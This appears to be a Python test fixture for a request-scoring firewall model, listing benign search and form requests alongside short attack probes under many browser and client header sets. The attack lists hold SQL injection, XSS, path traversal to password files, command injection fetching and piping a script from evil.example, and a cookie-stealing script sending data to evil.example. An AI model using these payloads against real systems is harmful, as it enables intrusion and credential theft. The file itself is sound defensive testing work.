"""A fixed probe set: everyday requests a new user sends, and short classic attacks, under many header sets.

A plain module (no mitmproxy import). Written by hand for the model's false-positive work (OpenFlare
issue 2): no line comes from a public payload list or WAF benchmark. DEV_* were looked at while
changing the training data; HELDOUT_* were written at the same time and only scored on finished
candidates, so they measure whether the fix generalises rather than whether it memorised.

Who uses it: tests/test_model.py runs them all on the shipped model; `make retrain`
(scripts/retrain.py) scores every probe with the current and the candidate model and refuses a
candidate that passes an attack probe the current model refuses (`retraining.probe_gate`): the
operator's labels can move the model on their own app's traffic, never off these.

A raw probe is (method, target, extra headers, body); a header set is added in front of the extra
headers. `probes()` expands them into `Probe`s; `score(lm, probe)` scores one as the addons score a
request (`LocalModel.score_request`: its fields extracted, each scored, the highest deciding).
"""

from __future__ import annotations

import json
from dataclasses import dataclass

FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]


def _json(doc) -> bytes:
    return json.dumps(doc).encode()


CHROME_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

DEV_HEADERS = {
    "none": [],
    "chrome": [("User-Agent", CHROME_WIN), ("Accept", "text/html,application/xhtml+xml"), ("Accept-Language", "en-US,en;q=0.9")],
    "firefox": [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")],
    "iphone": [("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                              "Version/17.4.1 Mobile/15E148 Safari/604.1")],
    "curl": [("User-Agent", "curl/7.88.1"), ("Accept", "*/*")],
    "python-requests": [("User-Agent", "python-requests/2.31.0"), ("Accept", "*/*")],
    "okhttp-app": [("User-Agent", "okhttp/4.9.3"), ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543")],
    "ios-app": [("User-Agent", "ShopApp/5.4.2 (iPhone; iOS 17.5; Scale/3.00)"), ("Cookie", "token=eyJhbGciOiJIUzI1NiJ9.e30.x1")],
    "postman": [("User-Agent", "PostmanRuntime/7.36.0"), ("Accept", "*/*")],
}

HELDOUT_HEADERS = {
    "edge+referer+cookie": [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                           "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.92"),
                            ("Referer", "https://shop.example.net/category/shoes?page=3"),
                            ("Cookie", "_ga=GA1.1.1234567.1700000000; cart_id=5521; lang=en-GB")],
    "safari-mac": [("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                                  "Version/16.6 Safari/605.1.15")],
    "samsung": [("User-Agent", "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) "
                               "SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36")],
    "curl8": [("User-Agent", "curl/8.4.0"), ("Accept", "*/*")],
    "httpx": [("User-Agent", "python-httpx/0.27.0")],
    "go": [("User-Agent", "Go-http-client/2.0")],
    "wget": [("User-Agent", "Wget/1.21.4")],
    "axios+origin": [("User-Agent", "axios/1.6.8"), ("Origin", "https://app.example.io")],
    "dart-app": [("User-Agent", "Dart/3.2 (dart:io)"), ("Cookie", "sid=4a7d1ed414474e4033ac29ccb8653d9b")],
    "cfnetwork-app": [("User-Agent", "MyShop/2.3.1 CFNetwork/1494.0.7 Darwin/23.4.0")],
}

# ---- benign: dev ---------------------------------------------------------------------------------

DEV_BENIGN = [
    ("GET", "/search?q=select+a+size", [], b""),
    ("GET", "/search?q=select", [], b""),
    ("GET", "/search?q=union", [], b""),
    ("GET", "/search?q=drop", [], b""),
    ("GET", "/search?q=O%27Brien", [], b""),
    ("GET", "/search?q=%3C3", [], b""),
    ("GET", "/?q=i+love+you+%3C3", [], b""),
    ("GET", "/search?q=how+to+select+from+a+union+of+tables", [], b""),
    ("GET", "/search?q=tom+%26+jerry%27s", [], b""),
    ("GET", "/search?q=script+writing", [], b""),
    ("GET", "/search?q=rock+%26+roll", [], b""),
    ("GET", "/search?q=union+station", [], b""),
    ("GET", "/search?q=drop+shipping", [], b""),
    ("GET", "/search?q=drop+table+cloth", [], b""),
    ("GET", "/search?q=insert+coin", [], b""),
    ("GET", "/search?q=update+iphone", [], b""),
    ("GET", "/search?q=delete+my+account", [], b""),
    ("GET", "/search?q=order+by+date", [], b""),
    ("GET", "/search?q=alert+settings", [], b""),
    ("GET", "/search?q=exec+summary+template", [], b""),
    ("GET", "/search?q=movie+script", [], b""),
    ("GET", "/search?q=javascript+tutorial", [], b""),
    ("GET", "/search?q=O%27Reilly+books", [], b""),
    ("GET", "/search?q=women%27s+shoes", [], b""),
    ("GET", "/search?q=it%27s+raining", [], b""),
    ("GET", "/search?q=fish+%26+chips", [], b""),
    ("GET", "/search?q=mac+%26+cheese+recipe", [], b""),
    ("GET", "/search?q=%3C3+you", [], b""),
    ("GET", "/products?search=select+size&page=2", [], b""),
    ("GET", "/comments?text=It%27s+a+great+product%2C+don%27t+miss+it", [], b""),
    ("GET", "/profile?name=D%27Angelo", [], b""),
    ("GET", "/users?name=O%27Brien", [], b""),
    ("GET", "/blog?s=where+to+drop+off+donations", [], b""),
    ("GET", "/forum/search?query=union+rules+for+workers", [], b""),
    ("GET", "/find?term=Dunkin%27+Donuts", [], b""),
    ("GET", "/search?keyword=Ben+%26+Jerry%27s", [], b""),
    ("GET", "/api/v1/search?q=select&limit=10", [], b""),
    ("GET", "/api/v1/items?limit=20&offset=40&sort=-created", [], b""),
    ("POST", "/contact", FORM, b"name=Sean+O%27Malley&email=sean%40example.com&message=Please+drop+me+a+line+about+the+union+event"),
    ("POST", "/comments", FORM, b"comment=%3C3+%3C3+love+this&post=12"),
    ("POST", "/api/v1/comments", JSON, _json({"author": "O'Brien", "text": "select the best union"})),
    ("POST", "/api/v1/notes", JSON, _json({"title": "Update", "body": "Don't forget to drop by & say hi <3"})),
    ("POST", "/graphql", JSON, _json({"query": "query { user(id: 5) { name email } }", "variables": {}})),
    ("PUT", "/api/v1/users/42", JSON, _json({"name": "Zoë O'Hara", "bio": "select, union & drop are my favourite words"})),
]

# ---- benign: held out (scored only on finished candidates) ----------------------------------------

HELDOUT_BENIGN = [
    ("GET", "/search?q=select+your+country", [], b""),
    ("GET", "/search?q=union+jack+t-shirt", [], b""),
    ("GET", "/search?q=drop+earrings", [], b""),
    ("GET", "/search?q=update+my+address", [], b""),
    ("GET", "/search?q=delete+history", [], b""),
    ("GET", "/search?q=insert+molding", [], b""),
    ("GET", "/search?q=order+by+phone", [], b""),
    ("GET", "/search?q=script+font", [], b""),
    ("GET", "/search?q=alert+dog+training", [], b""),
    ("GET", "/search?q=execute+order+66", [], b""),
    ("GET", "/search?q=O%27Hare+airport+parking", [], b""),
    ("GET", "/search?q=McDonald%27s+near+me", [], b""),
    ("GET", "/search?q=l%27oreal+shampoo", [], b""),
    ("GET", "/search?q=%3C3%3C3%3C3", [], b""),
    ("GET", "/search?q=miss+you+%3C3", [], b""),
    ("GET", "/search?q=salt+%26+pepper", [], b""),
    ("GET", "/search?q=johnson+%26+johnson", [], b""),
    ("GET", "/search?q=AT%26T+store", [], b""),
    ("GET", "/search?q=where+is+the+nearest+train+station", [], b""),
    ("GET", "/search?q=can%27t+login", [], b""),
    ("GET", "/search?q=select+all+that+apply", [], b""),
    ("GET", "/s?k=drop+leaf+table", [], b""),
    ("GET", "/search?query=shirts+%26+ties&sort=price", [], b""),
    ("GET", "/catalog?filter=select+brand", [], b""),
    ("GET", "/wiki/search?search=Union+Pacific+Railroad", [], b""),
    ("GET", "/news?q=Drop+in+prices+%26+rates", [], b""),
    ("GET", "/forum?q=Don%27t+drop+the+ball", [], b""),
    ("GET", "/recipes?q=shepherd%27s+pie", [], b""),
    ("GET", "/api/products?q=insert+tool&page=3", [], b""),
    ("GET", "/search?q=%E2%9D%A4", [], b""),
    ("POST", "/feedback", FORM, b"name=Aoife+O%27Sullivan&feedback=Great+site+%3C3+but+the+select+box+is+slow"),
    ("POST", "/reviews", FORM, b"rating=5&review=Best+fish+%26+chips+in+town%2C+we%27ll+be+back%21"),
    ("POST", "/api/v2/messages", JSON, _json({"to": "kevin", "text": "can you update the table before we drop it off?"})),
    ("POST", "/api/tickets", JSON, _json({"subject": "Can't delete my order", "priority": "high", "tags": ["orders", "help"]})),
    ("POST", "/api/v1/profile", JSON, _json({"display_name": "Chloé D'Arcy", "about": "Script writer & union member <3"})),
    ("PATCH", "/api/v1/tasks/7", JSON, _json({"done": True, "note": "insert page numbers, then update the index"})),
]

# ---- attacks that must stay blocked -----------------------------------------------------------------

ATTACKS = [
    ("GET", "/search?q=%27+or+1%3D1--", [], b""),
    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", [], b""),
    ("GET", "/search?q=1+union+select+password+from+users", [], b""),
    ("GET", "/search?q=..%2F..%2Fetc%2Fpasswd", [], b""),
    ("GET", "/search?q=%3Bcat+%2Fetc%2Fpasswd", [], b""),
    ("GET", "/search?q=admin%27--", [], b""),
    ("GET", "/search?q=1%27+and+sleep(5)--+-", [], b""),
    ("GET", "/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", [], b""),
    ("GET", "/search?q=%3Csvg+onload%3Dalert(document.domain)%3E", [], b""),
    ("GET", "/search?q=1%3B+drop+table+users--", [], b""),
    ("GET", "/search?q=javascript%3Aalert(1)", [], b""),
    ("GET", "/users?name=x%27+union+select+null%2Cversion()--", [], b""),
    ("GET", "/profile?name=%3Cbody+onload%3Dalert(%27x%27)%3E", [], b""),
    ("GET", "/download?file=..%2F..%2F..%2Fetc%2Fshadow", [], b""),
    ("GET", "/view?page=....%2F%2F....%2F%2Fetc%2Fpasswd", [], b""),
    ("GET", "/ping?host=8.8.8.8%7C%7Cid", [], b""),
    ("GET", "/ping?host=%60whoami%60", [], b""),
    ("GET", "/search?q=%24(curl+evil.example%2Fx.sh%7Csh)", [], b""),
    ("GET", "/api/v1/search?q=%27%3B+exec+xp_cmdshell+%27dir%27--", [], b""),
    ("GET", "/comments?text=%3Ciframe+src%3Djavascript%3Aalert(1)%3E", [], b""),
    ("GET", "/login?user=admin%27+or+%271%27%3D%271", [], b""),
    ("GET", "/search?q=1%27+union+select+username%2Cpassword+from+users--", [], b""),
    ("POST", "/contact", FORM, b"name=a&message=%27+or+%27a%27%3D%27a"),
    ("POST", "/login", FORM, b"user=admin%27+or+1%3D1--&pass=x"),
    ("POST", "/api/v1/comments", JSON, _json({"text": "<script>document.location='http://evil.example/?c='+document.cookie</script>"})),
    ("POST", "/api/v1/search", JSON, _json({"q": "1' union select username, password from users--"})),
]

# Header-borne attacks: only under the header-less set (the attack is the header set).
HEADER_ATTACKS = [
    ("GET", "/", [("User-Agent", "' or 1=1 --")], b""),
    ("GET", "/", [("User-Agent", "<script>alert(1)</script>")], b""),
    ("GET", "/search?q=shoes", [("Referer", "http://x/?id=1' union select password from users--")], b""),
    ("GET", "/", [("Cookie", "lang=../../../../etc/passwd")], b""),
]


# ---- the probe set as one list, and how a probe is scored ------------------------------------------------

ATTACK, BENIGN = "attack", "benign"


@dataclass(frozen=True)
class Probe:
    kind: str  # ATTACK or BENIGN
    method: str
    target: str
    headers: tuple[tuple[str, str], ...]
    body: bytes
    header_set: str  # the name of the header set, "-" for a header-borne attack (its headers are the attack)

    @property
    def name(self) -> str:
        return f"{self.method} {self.target} [{self.header_set}]"


def all_headers() -> dict[str, list[tuple[str, str]]]:
    return {**DEV_HEADERS, **HELDOUT_HEADERS}


def probes() -> list[Probe]:
    """Every everyday request and short attack under every header set, and the header-borne attacks:
    what tests/test_model.py checks on the shipped model (80 x 19 benign, 26 x 19 + 4 attacks)."""
    out = []
    sets = all_headers()
    for kind, raw in ((BENIGN, DEV_BENIGN + HELDOUT_BENIGN), (ATTACK, ATTACKS)):
        for method, target, extra, body in raw:
            for name, headers in sets.items():
                out.append(Probe(kind, method, target, tuple(headers + extra), body, name))
    for method, target, headers, body in HEADER_ATTACKS:
        out.append(Probe(ATTACK, method, target, tuple(headers), body, "-"))
    return out


def score(lm, probe: Probe) -> int:
    """The 1-10 score the Scorer gives this request with model `lm` (an addons.model.LocalModel)."""
    return lm.score_request(probe.method, probe.target, list(probe.headers), probe.body)[0]
